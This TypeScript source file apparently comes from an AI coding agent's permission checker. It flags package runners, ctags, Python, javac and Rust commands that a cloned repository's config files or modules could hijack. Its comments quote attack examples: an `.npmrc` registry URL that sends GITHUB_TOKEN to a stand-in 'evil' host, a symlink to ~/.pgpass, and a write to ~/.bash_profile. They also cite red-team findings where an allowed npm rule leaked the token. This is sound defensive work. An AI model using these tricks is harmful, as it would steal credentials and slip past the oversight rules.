import { commandBase, type SimpleCommand } from './commands';
import { readCappedSync } from '../../fs/read';
import { isFileSync, isFolderSync, isLinkSync } from '../../fs/stat';
import { folderNamesSync } from '../../fs/list';
import { existingLocation, foldersUp, kernelJoin } from '../../fs/paths';

// npm, npx, pnpm and yarn read `.npmrc` from the folder they run in and every folder above it. A
// clone's `.npmrc` sets where they connect and what they send (`registry=https://evil/${GITHUB_TOKEN}/`
// filled in from your environment, then printed and sent), which programs they run
// (`script-shell`, `node-options`, `git`) and where they write (`logs-dir`, `cache`, `prefix`):
// `npm view x` under `Bash(npm view:*)` sent the token (pass 29 F9). So a rule naming one of them
// covers a `.npmrc` of the workspace's only when each of its settings is known to shape no more
// than how packages are saved and how output looks, and no value reads the environment.

const RUNNERS: ReadonlySet<string> = new Set(['npm', 'npx', 'pnpm', 'pnpx', 'yarn', 'yarnpkg', 'corepack']);

/** `.npmrc` keys that only shape how dependencies are saved or resolved and how output looks. */
const HARMLESS: ReadonlySet<string> = new Set([
  'save-exact', 'save-prefix', 'save', 'engine-strict', 'fund', 'audit', 'package-lock', 'package-lock-only', 'legacy-peer-deps',
  'auto-install-peers', 'strict-peer-dependencies', 'shamefully-hoist', 'loglevel', 'progress', 'lockfile-version', 'optional',
  'ignore-scripts', 'prefer-offline', 'prefer-online', 'update-notifier', 'color', 'unicode', 'link-workspace-packages',
  'prefer-workspace-packages', 'node-linker', 'public-hoist-pattern', 'hoist-pattern', 'hoist', 'git-tag-version', 'tag-version-prefix',
  'sign-git-commit', 'sign-git-tag', 'workspaces-update', 'include-workspace-root', 'resolution-mode', 'dedupe-peer-dependents',
  'install-strategy', 'install-links', 'omit', 'include', 'save-dev', 'save-optional', 'save-peer', 'save-prod', 'save-bundle',
  'recursive-install', 'frozen-lockfile', 'prefer-frozen-lockfile',
]);

/**
 * Where a program's settings file may be read to judge it. One in a folder of the workspace that
 * leads elsewhere (a committed `.npmrc -> ~/.pgpass`), or to a file your rules keep from being
 * read, is not read: its text would steer the judgement, and once its first line was quoted to
 * the model (pass 52 C1). Files above the workspace are yours and are read.
 */
export interface ConfigPlace {
  /** Inside the workspace or an added folder (a real path). */
  inside(real: string): boolean;
  /** Readable by the rules as they stand (not under a Read deny or ask rule). */
  readable(real: string): boolean;
}

/** A settings file's bytes, or why it is not read; undefined when there is none. */
function settingsFile(file: string, dir: string, place: ConfigPlace, maxBytes: number): { text: string; capped: boolean } | { refused: string } | undefined {
  if (!present(file)) return undefined;
  const real = existingLocation(file);
  if (place.inside(existingLocation(dir)) && (!place.inside(real) || !place.readable(real))) return { refused: `${file}, which leads to a file outside the workspace or one your rules keep from being read` };
  if (!place.readable(real)) return { refused: `${file}, which your rules keep from being read` };
  const read = readCappedSync(file, { maxBytes });
  if (read.ok) return { text: read.bytes.toString('utf8'), capped: read.capped };
  if (read.reason === 'missing' || read.reason === 'folder') return undefined;
  return { refused: `${file}, which cannot be read through` };
}

/** Why a package runner in `c`, run in `folder`, may be steered by a `.npmrc` there or above; undefined when none may. */
export function npmrcFinding(c: SimpleCommand, folder: string, home: string, place: ConfigPlace): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (!RUNNERS.has(name)) return undefined;
  const own = existingLocation(kernelJoin(home, '.npmrc'));
  for (const dir of foldersUp(folder)) {
    const file = kernelJoin(dir, '.npmrc');
    // Your own ~/.npmrc is yours.
    if (existingLocation(file) === own) continue;
    const read = settingsFile(file, dir, place, 64 * 1024);
    if (read === undefined) continue;
    if ('refused' in read) return `${name} reads ${read.refused}`;
    if (read.capped) return `${name} reads ${file}, too large to read through`;
    const why = npmrcDanger(read.text);
    if (why) return `${name} reads ${file}, which holds a ${why}`;
  }
  return undefined;
}

/**
 * Why a `.npmrc` text may steer npm beyond saving and output; undefined when it surely does not.
 * Names no key: the text is the file's, and what it holds is not for the model to read here.
 */
export function npmrcDanger(text: string): string | undefined {
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (line === '' || line.startsWith('#') || line.startsWith(';')) continue;
    const eq = line.indexOf('=');
    const key = (eq < 0 ? line : line.slice(0, eq)).trim().replace(/\[\]$/, '');
    const value = eq < 0 ? '' : line.slice(eq + 1);
    if (/\$\{/.test(line)) return 'setting that reads your environment (${…})';
    if (!HARMLESS.has(key)) return 'setting that may choose where npm connects, what it runs or where it writes';
    if (/[`$]/.test(value)) return `setting (${key}) whose value is expanded`;
  }
  return undefined;
}

/** Whether something (a file, folder or link) is at `path`. */
const present = (path: string) => isLinkSync(path) || isFolderSync(path) || isFileSync(path);

/**
 * ctags reads option files from the folder it runs in (`.ctags.d/*.ctags`, `ctags.d/`, `.ctags`):
 * a clone's options name any file to write (`-f ~/.bash_profile`) and any pattern to print (pass 32 C1).
 */
export function ctagsConfigFinding(c: SimpleCommand, folder: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  // cscope reads the files `cscope.files` lists (pass 35 C3).
  const files = name === 'cscope' ? ['cscope.files'] : ['ctags', 'etags', 'ctags-universal', 'exuberant-ctags', 'uctags'].includes(name) ? ['.ctags.d', 'ctags.d', '.ctags', 'ctags.cnf', '.ctags.cnf'] : [];
  if (files.length === 0) return undefined;
  const found = files.map((f) => kernelJoin(folder, f)).find(present);
  return found === undefined ? undefined : `${name} reads ${found}, which may name any file it writes or reads`;
}

/** `-m` modules that run the project's code anyway (tests, checkers, installers): their rules say so. */
const RUNS_PROJECT: ReadonlySet<string> = new Set(['pytest', 'unittest', 'nose2', 'doctest', 'coverage', 'mypy', 'pylint', 'flake8', 'black', 'ruff', 'isort', 'pip', 'build', 'twine', 'tox', 'nox', 'hatch', 'poetry', 'uv', 'behave', 'django', 'flask', 'uvicorn', 'gunicorn']);

/**
 * `python -m json.tool` and `pydoc json` put the folder they run in first on the import path: a
 * clone's `json/`, or its `argparse.py` or any other module the tool imports, runs in place of
 * the installed one (pass 32 M1, pass 35 M2, P2). Which modules a tool imports is not known, so a
 * folder holding any Python module or package asks, unless the module is one that runs the
 * project's code anyway.
 */
export function pythonModuleFinding(c: SimpleCommand, folder: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  let module: string | undefined;
  if (/^pydoc[\d.]*$/.test(name)) module = 'pydoc';
  else if (/^(python[\d.]*|py|pypy[\d.]*)$/.test(name)) {
    const at = c.words.findIndex((w, i) => i > 0 && (w === '-m' || (w?.startsWith('-m') ?? false)));
    if (at < 0) return undefined;
    module = c.words[at] === '-m' ? c.words[at + 1] : c.words[at]!.slice(2);
    if (module === undefined) return `${name} runs a module named when it runs`;
  } else return undefined;
  if (RUNS_PROJECT.has(module.split('.')[0]!)) return undefined;
  const listed = folderNamesSync(folder, 10_000);
  if (!listed) return undefined;
  if (listed.capped) return `${name} imports modules from ${folder} first, too big to look through for Python modules`;
  const local = listed.names.find((n) => /\.(py|pyc|pyw|so|pyd)$/.test(n) || present(kernelJoin(kernelJoin(folder, n), '__init__.py')));
  return local === undefined ? undefined : `${name}${module === 'pydoc' ? '' : ` -m ${module}`} imports modules from the folder it runs in first, which holds ${local}: it may run in place of a module the tool imports`;
}

/**
 * javac runs the annotation processors it finds on its class path (`.` unless told), named by a
 * `META-INF/services/javax.annotation.processing.Processor` file: a clone's processor ran at
 * `javac A.java` (pass 35 J1). Unless `-proc:none`, a class path folder holding one, a jar
 * (unread here), a processor path or a class path computed when it runs asks.
 */
export function javacProcessorFinding(c: SimpleCommand, folder: string): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (name !== 'javac') return undefined;
  const words = c.words.slice(1);
  if (words.includes('-proc:none')) return undefined;
  let classPath: string[] = ['.'];
  for (let i = 0; i < words.length; i++) {
    const w = words[i];
    if (w === undefined) return 'javac is given a word computed when it runs, which may set where it finds annotation processors';
    if (['-processorpath', '--processor-path', '--processor-module-path', '-processor', '-Xplugin'].some((o) => w === o || w.startsWith(`${o}:`) || w.startsWith(`${o}=`))) return `javac ${w} runs annotation processors or plugins it loads`;
    if (w === '-cp' || w === '-classpath' || w === '--class-path') {
      const v = words[++i];
      if (v === undefined) return 'javac is given a class path computed when it runs';
      classPath = v.split(':');
    } else if (w.startsWith('--class-path=')) classPath = w.slice('--class-path='.length).split(':');
  }
  for (const entry of classPath) {
    if (entry === '' || entry.includes('*') || /\.(jar|zip)$/i.test(entry)) return `javac may run annotation processors from ${entry || 'the folder it runs in'} on its class path; give -proc:none to compile only`;
    const services = kernelJoin(kernelJoin(kernelJoin(kernelJoin(folder, entry), 'META-INF'), 'services'), 'javax.annotation.processing.Processor');
    if (present(services)) return `javac runs the annotation processors ${services} names`;
  }
  return undefined;
}

/**
 * rustup's proxies (`cargo`, `rustc`, `rustfmt`, `rustdoc`, `clippy-driver`, `rust-analyzer`…)
 * take their toolchain from a `rust-toolchain(.toml)` in the folder or above: one whose `path`
 * names a toolchain in the clone runs the clone's programs (pass 35 U1).
 */
export function rustToolchainFinding(c: SimpleCommand, folder: string, place: ConfigPlace): string | undefined {
  const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
  if (!/^(cargo|cargo-\w+|rustc|rustfmt|rustdoc|rustup|clippy-driver|rust-analyzer|rust-gdb|rust-gdbgui|rust-lldb|rls|miri)$/.test(name)) return undefined;
  for (const dir of foldersUp(folder)) {
    for (const file of ['rust-toolchain.toml', 'rust-toolchain']) {
      const read = settingsFile(kernelJoin(dir, file), dir, place, 16 * 1024);
      if (read === undefined) continue;
      if ('refused' in read) return `${name} takes its toolchain from ${read.refused}`;
      const text = read.text;
      // A channel name picks one of your installed toolchains; a path (or anything else) picks programs.
      if (read.capped || /^\s*path\s*=/m.test(text) || (file === 'rust-toolchain' && !/^\s*(\[|[\w.-]+\s*$)/.test(text))) return `${name} takes its toolchain from ${kernelJoin(dir, file)}, which may name programs in the workspace`;
    }
  }
  return undefined;
}